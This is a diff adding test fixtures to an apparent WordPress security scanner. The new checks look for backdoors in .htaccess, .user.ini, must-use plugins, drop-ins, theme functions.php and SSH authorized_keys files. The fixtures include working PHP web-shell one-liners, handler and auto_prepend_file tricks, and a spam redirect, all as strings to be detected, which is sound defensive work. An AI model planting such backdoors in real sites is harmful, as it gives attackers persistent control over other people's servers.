@@ -22,6 +22,9 @@ const version = (wordpress: string | null, php: string | null = null) =>
   reading({ versions: { wordpress, php: php === null ? null : { version: php, from: 'web' } } });
 const idle = new Map([['akismet', { version: '5.1', name: 'Akismet', checksums: null }]]);
 
+const texts = (given: Record<string, string>) => reading({ files: files({ texts: given }), unread: new Map() });
+const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIIpNv7a4Y6Y8xPb5oZ0hVnVnYw3c5b1yJ4d5c6b7a8d9';
+
 type DoorCheck =
   | 'user-token'
   | 'jwt-secret'
@@ -34,7 +37,13 @@ type DoorCheck =
   | 'uploads-listed'
   | 'wordpress-version'
   | 'php-version'
-  | 'inactive-plugin';
+  | 'inactive-plugin'
+  | 'htaccess'
+  | 'user-ini'
+  | 'mu-plugin'
+  | 'drop-in'
+  | 'theme-functions'
+  | 'authorized-keys';
 
 export const doorCases: Pick<Record<CheckName, Cases>, DoorCheck> = {
   'user-token': {
@@ -133,5 +142,114 @@ export const doorCases: Pick<Record<CheckName, Cases>, DoorCheck> = {
       reading({ files: files({ plugins: idle }), blogs: [blog({ activePlugins: null })] }),
       reading(),
     ],
+  },
+  htaccess: {
+    finds: [
+      [texts({ 'wp-content/uploads/.htaccess': 'SetHandler application/x-httpd-php' }), 'high, likely'],
+      [texts({ '.htaccess': 'AddHandler application/x-httpd-php .jpg' }), 'high, likely'],
+      [texts({ '.htaccess': 'AddType application/x-httpd-ea-php81 .php \\\n .gif' }), 'high, likely'],
+      [
+        texts({ '.htaccess': '<FilesMatch "\\.png$">\nSetHandler proxy:unix:/run/php-fpm.sock\n</FilesMatch>' }),
+        'high, likely',
+      ],
+      [texts({ '.htaccess': 'php_value auto_prepend_file "/tmp/.x.php"' }), 'high, likely'],
+      [texts({ '.htaccess': 'php_value auto_prepend_file /srv/site/wordfence-waf.php' }), 'low, unlikely'],
+      [
+        texts({
+          '.htaccess':
+            'RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule .* https://pills.example/ [R=302,L]',
+        }),
+        'high, certain',
+      ],
+      [
+        texts({ '.htaccess': 'RewriteCond %{HTTP_USER_AGENT} android\nRewriteRule .* https://apk.example/ [R]' }),
+        'medium, likely',
+      ],
+      [texts({ '.htaccess': 'RewriteRule ^shop$ /wp-content/uploads/a.php' }), 'high, likely'],
+      [
+        texts({ '.htaccess': '<FilesMatch "^(lock360.php|radio.php)$">\nAllow from all\n</FilesMatch>' }),
+        'high, likely',
+      ],
+    ],
+    leaves: [
+      texts({
+        '.htaccess': [
+          '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]',
+          'RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress',
+          'AddHandler application/x-httpd-ea-php81 .php .php8 .phtml',
+          '<FilesMatch "\\.(php4|php5|phtml)$">\nSetHandler application/x-httpd-ea-php81\n</FilesMatch>',
+          'RewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [R=301,L]',
+          'RewriteCond %{HTTP_HOST} ^old\\.test$\nRewriteRule ^(.*)$ https://new.test/$1 [R=301,L]',
+          'RewriteCond %{HTTP_USER_AGENT} "android|iphone"\nRewriteRule ^$ https://m.client.test/ [R]',
+          'RewriteCond %{HTTP_USER_AGENT} badbot\nRewriteRule .* - [F]',
+          'php_value upload_max_filesize 64M\nphp_value auto_prepend_file none',
+          '# SetHandler application/x-httpd-php',
+        ].join('\n'),
+        'wp-content/uploads/.htaccess': 'Options -Indexes\n<Files *.php>\ndeny from all\n</Files>',
+      }),
+    ],
+  },
+  'user-ini': {
+    finds: [
+      [texts({ '.user.ini': 'auto_prepend_file = /tmp/a.php' }), 'high, likely'],
+      [texts({ '.user.ini': "auto_prepend_file = '/srv/site/wordfence-waf.php'" }), 'low, unlikely'],
+      [texts({ 'php.ini': 'allow_url_include=On' }), 'medium, possible'],
+      [texts({ 'php.ini': 'disable_functions = ""' }), 'low, possible'],
+      [texts({ 'wp-admin/php.ini': 'extension=/tmp/x.so' }), 'high, likely'],
+    ],
+    leaves: [
+      texts({ '.user.ini': 'memory_limit = 256M\n; auto_prepend_file = x\ndisable_functions = exec\nextension=gd' }),
+    ],
+  },
+  'mu-plugin': {
+    finds: [
+      [texts({ 'wp-content/mu-plugins/x.php': `<?php @eval($_POST['x']);` }), 'critical, certain'],
+      [texts({ 'wp-content/mu-plugins/x.php': `<?php eval(base64_decode($a));` }), 'high, likely'],
+      [texts({ 'wp-content/mu-plugins/x.php': `<?php add_action('init', 'x');` }), 'medium, possible'],
+      [texts({ 'wp-content/mu-plugins/kinsta-mu-plugins.php': `<?php require 'a.php';` }), 'low, unlikely'],
+      [texts({ 'wp-content/mu-plugins/a/b.php': `<?php system($_GET['x']);` }), 'critical, certain'],
+    ],
+    leaves: [
+      texts({
+        'wp-content/mu-plugins/index.php': '<?php\n// Silence is golden.\n',
+        'wp-content/mu-plugins/a/b.php': `<?php class A {}`,
+        'wp-content/plugins/a.php': `<?php add_action('init', 'x');`,
+      }),
+    ],
+  },
+  'drop-in': {
+    finds: [
+      [
+        texts({ 'wp-content/object-cache.php': `<?php // Redis Object Cache Drop-In\neval($_REQUEST['a']);` }),
+        'critical, certain',
+      ],
+      [texts({ 'wp-content/db.php': `<?php $wpdb = new Mine();` }), 'medium, possible'],
+    ],
+    leaves: [
+      texts({
+        'wp-content/object-cache.php': '<?php\n/** Plugin Name: Redis Object Cache Drop-In */ class A {}',
+        'wp-content/advanced-cache.php': '<?php // WP Super Cache\nrequire "x.php";',
+        'wp-content/maintenance.php': '<?php // Silence is golden.',
+      }),
+    ],
+  },
+  'theme-functions': {
+    finds: [
+      [texts({ 'wp-content/themes/a/functions.php': `<?php $f = $_GET['f']; $f($_GET['a']);` }), 'high, likely'],
+      [texts({ 'wp-content/themes/a/functions.php': '<?php eval($code);' }), 'medium, possible'],
+    ],
+    leaves: [
+      texts({ 'wp-content/themes/child/functions.php': `<?php add_action('wp_enqueue_scripts', 'child_styles');` }),
+    ],
+  },
+  'authorized-keys': {
+    finds: [
+      [texts({ '/home/a/.ssh/authorized_keys': `ssh-ed25519 ${key} me@laptop` }), 'low, unlikely'],
+      [
+        texts({ '/home/a/.ssh/authorized_keys2': `command="/bin/sh -c \\"x, y\\"",no-pty ssh-rsa ${key}` }),
+        'medium, possible',
+      ],
+    ],
+    leaves: [texts({ '/home/a/.ssh/authorized_keys': `# ssh-ed25519 ${key}\n\nnonsense\n` })],
   },
 };
